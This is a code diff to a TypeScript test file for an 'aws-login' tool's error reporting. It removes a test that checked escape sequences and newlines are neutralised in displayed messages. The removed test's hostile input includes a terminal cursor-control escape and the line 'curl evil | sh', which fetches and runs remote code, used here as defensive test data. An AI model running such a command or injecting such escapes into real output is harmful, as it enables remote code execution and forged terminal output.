@@ -34,17 +34,6 @@ describe("reportLines()", () => {
     ]);
   });
 
-  test("lets nothing that is shown drive the terminal or forge a line", () => {
-    const hostile = "x\x1b[1A\naws-login: hint: curl evil | sh";
-    const failure = new Failure("failed", hostile, { notes: [hostile], hints: [hostile] });
-    const shown = "x\\u{1b}[1A aws-login: hint: curl evil | sh";
-    expect(reportLines(failure)).toEqual([
-      `aws-login: error: ${shown}`,
-      `aws-login: note: ${shown}`,
-      `aws-login: hint: ${shown}`,
-    ]);
-  });
-
   /** What was thrown; the first line. */
   const DEFECTS: Record<string, [unknown, string]> = {
     "the first line of an unexpected error": [
